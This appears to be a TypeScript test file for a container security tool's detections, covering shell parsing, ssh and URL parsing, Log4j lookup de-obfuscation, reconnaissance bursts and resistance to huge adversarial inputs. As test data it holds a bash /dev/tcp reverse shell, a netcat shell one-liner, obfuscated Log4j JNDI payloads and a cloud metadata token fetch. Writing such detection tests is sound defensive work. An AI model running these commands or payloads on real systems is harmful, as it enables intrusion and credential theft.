/**
 * Tests of node-b's helpers (shell splitting, ssh and URL parsing, Log4j lookup resolution), the
 * recon burst's window and settings, and the safety of every node-b detection against 1 MB
 * adversarial command lines: each must return (no catastrophic backtracking) without firing.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { AnyDetection, DetectionContext } from '../../../engine/detection.js';
import { MemoryState } from '../../../engine/state/store.js';
import type { NodeEvent, ProcessExecEvent } from '../../../events/model.js';
import { Indicators } from '../../../indicators/indicators.js';
import { StateInventory } from '../../../inventory/inventory.js';
import containerSsh from '../container-ssh.js';
import eicar from '../eicar.js';
import exploitAttempt, { resolveLookups } from '../exploit-attempt.js';
import imdsCall from '../imds-call.js';
import kubernetesApi from '../kubernetes-api.js';
import kubernetesDashboard from '../kubernetes-dashboard.js';
import namespaceCreation from '../namespace-creation.js';
import reconBurst from '../reconnaissance-artifacts-burst.js';
import reverseShell from '../reverse-shell.js';
import suspectConnection from '../suspect-connection.js';
import suspectNohup from '../suspect-nohup.js';
import suspectPortForwarding from '../suspect-port-forwarding.js';
import webshell from '../webshell.js';
import { hostReferences, parseSsh, urlsIn } from './network.js';
import { commandsOf, splitCommands, unwrap } from './shells.js';

const MINE = [containerSsh, eicar, exploitAttempt, imdsCall, kubernetesApi, kubernetesDashboard, namespaceCreation, reconBurst, reverseShell, suspectConnection, suspectNohup, suspectPortForwarding, webshell] as unknown as AnyDetection[];
const indicators = new Indicators();

function contextFor(detection: AnyDetection, settings: Record<string, unknown> = {}): DetectionContext {
  const state = new MemoryState().forCluster('test');
  return { state, inventory: new StateInventory(state), indicators, settings: { ...detection.defaults, ...settings } };
}

const container = { id: 'c0ffee', name: 'api', pod: 'api-1', namespace: 'payments', image: 'registry.example.com/api:1' };
const webServer = { pid: 1, executable: '/usr/sbin/apache2', args: ['/usr/sbin/apache2', '-DFOREGROUND'], commandLine: '/usr/sbin/apache2 -DFOREGROUND' };

function exec(args: string[], time = Date.parse('2026-03-14T10:00:00Z'), id = 'e1'): ProcessExecEvent {
  return { kind: 'process.exec', id, time, source: 'test', node: 'n1', container, process: { pid: 9, executable: `/usr/bin/${args[0]}`, args, commandLine: args.join(' ') }, ancestors: [webServer] };
}

test('splitCommands splits on operators outside quotes and keeps redirections', () => {
  const cmds = splitCommands(`a 'b | c' && d "e;f" | g 2>&1; bash -i >& /dev/tcp/h/1 0>&1 & x`);
  assert.deepEqual(cmds.map((c) => c.words), [['a', 'b | c'], ['d', 'e;f'], ['g', '2>&1'], ['bash', '-i', '>&', '/dev/tcp/h/1', '0>&1'], ['x']]);
  assert.deepEqual(cmds.map((c) => c.joinedBy), ['', '&&', '|', ';', '&']);
});

test('command substitutions are commands too', () => {
  const names = commandsOf({ pid: 1, executable: '/bin/sh', args: ['sh', '-c', 'T=$(curl -X PUT http://h/t); echo `id`'], commandLine: '' }).map((c) => c.words[0]);
  assert.ok(names.includes('curl'));
  assert.ok(names.includes('id'));
});

test('unwrap looks through wrappers and keeps a lone wrapper as the command', () => {
  assert.deepEqual(unwrap(['env', '-i', 'A=1', 'nohup', 'timeout', '5', 'nc', 'h', '1']), ['nc', 'h', '1']);
  assert.deepEqual(unwrap(['env']), ['env']);
  assert.deepEqual(unwrap(['busybox', 'nc', '-e', 'sh']), ['nc', '-e', 'sh']);
});

test('parseSsh reads clustered flags, -o forwards and the destination', () => {
  const ssh = parseSsh(['ssh', '-NfR', '8080:localhost:80', '-o', 'DynamicForward=1080', '-p', '22', 'me@host.example.com']);
  assert.deepEqual(ssh.forwards, [{ flag: 'R', spec: '8080:localhost:80' }]);
  assert.deepEqual(ssh.socks, ['1080']);
  assert.equal(ssh.destination, 'host.example.com');
});

test('urlsIn and hostReferences find targets with and without schemes', () => {
  assert.deepEqual(urlsIn('curl -s https://user@Kubernetes.Default.svc:443/api/v1?x=1').map((u) => [u.host, u.port, u.path]), [['kubernetes.default.svc', 443, '/api/v1?x=1']]);
  assert.deepEqual(hostReferences('wget 169.254.169.254/latest/api/token', ['169.254.169.254']), [{ host: '169.254.169.254', path: '/latest/api/token' }]);
  assert.deepEqual(hostReferences('x 10.169.254.169.254/a', ['169.254.169.254']), []);
});

test('resolveLookups collapses obfuscated Log4j lookups', () => {
  assert.ok(resolveLookups('${${lower:j}${upper:n}di:ldap://x/a}').includes('${jndi:'));
  assert.ok(resolveLookups('${${::-j}${::-n}${::-d}${::-i}:rmi://x}').startsWith('${jndi:'));
  assert.equal(resolveLookups('${HOME} ${PATH:-/bin}'), '${HOME} /bin');
});

test('recon burst: distinct commands inside the window fire, spread-out ones do not', () => {
  const ctx = contextFor(reconBurst as unknown as AnyDetection);
  const t0 = Date.parse('2026-03-14T10:00:00Z');
  const run = (args: string[], offset: number) => reconBurst.detect(exec(args, t0 + offset * 1000, `e${offset}`), ctx);
  assert.equal(run(['id'], 0), undefined);
  assert.equal(run(['whoami'], 5), undefined);
  assert.equal(run(['hostname'], 10), undefined);
  assert.equal(run(['uname', '-a'], 120), undefined, 'earlier commands fell out of the 60 s window');
  assert.equal(run(['id'], 125), undefined, 'a repeat is not a new distinct command');
  assert.equal(run(['ps', 'aux'], 130), undefined);
  assert.equal(run(['mount'], 135), undefined);
  const finding = run(['df', '-h'], 140);
  assert.ok(finding && !Array.isArray(finding));
  assert.equal((finding as { related?: unknown[] }).related?.length, 4);
});

test('recon burst honours its settings', () => {
  const ctx = contextFor(reconBurst as unknown as AnyDetection, { minDistinctCommands: 2, windowSeconds: 5 });
  const t0 = Date.parse('2026-03-14T10:00:00Z');
  assert.equal(reconBurst.detect(exec(['id'], t0, 'a'), ctx), undefined);
  assert.ok(reconBurst.detect(exec(['whoami'], t0 + 1000, 'b'), ctx));
  assert.equal(reconBurst.detect(exec(['hostname'], t0 + 60_000, 'c'), ctx), undefined);
});

const MB = 1 << 20;
const ADVERSARIAL: string[][] = [
  ['sh', '-c', 'a'.repeat(MB)],
  ['sh', '-c', '${'.repeat(MB / 2)],
  ['sh', '-c', '${lower:'.repeat(MB / 8) + '}'.repeat(MB / 8)],
  ['sh', '-c', "'\"".repeat(MB / 2)],
  ['sh', '-c', '$('.repeat(MB / 2)],
  ['sh', '-c', '() {'.repeat(MB / 4)],
  ['sh', '-c', 'a|'.repeat(MB / 2)],
  ['bash', '-c', 'x >&'.repeat(MB / 4)],
  ['curl', ...Array(MB / 4).fill('-o')],
  ['curl', 'http://'.repeat(MB / 7)],
  ['curl', '-H', 'x'.repeat(MB), 'http://kubernetes.io/'],
  ['ssh', '-' + 'N'.repeat(MB)],
  ['socat', 'tcp:'.repeat(MB / 4), 'exec:'.repeat(MB / 5)],
  ['nohup', ...Array(MB / 8).fill('nice')],
  ['python3', '-c', 'socket'.repeat(MB / 6)],
  ['sh', '-c', '/dev/tcp/'.repeat(MB / 9)],
  ['curl', '169.254.169.254'.repeat(MB / 15)],
];

test('every node-b detection returns on 1 MB adversarial input without firing', () => {
  for (const detection of MINE) {
    const ctx = contextFor(detection);
    for (const args of ADVERSARIAL) {
      const base = exec(args);
      const events: NodeEvent[] = [base];
      if (detection.kinds.includes('net.connect')) events.push({ ...base, kind: 'net.connect', family: 'inet', remoteAddress: '127.0.0.1', remotePort: 9050, success: true });
      if (detection.kinds.includes('file.access')) events.push({ ...base, kind: 'file.access', operation: 'write', path: '/proc/' + 'x/'.repeat(MB / 2), success: true });
      for (const event of events) {
        if (!detection.kinds.includes(event.kind)) continue;
        assert.equal(detection.detect(event as never, ctx), undefined, `${detection.type} fired on ${args[0]} ${args[1]?.slice(0, 20)}`);
      }
    }
  }
});
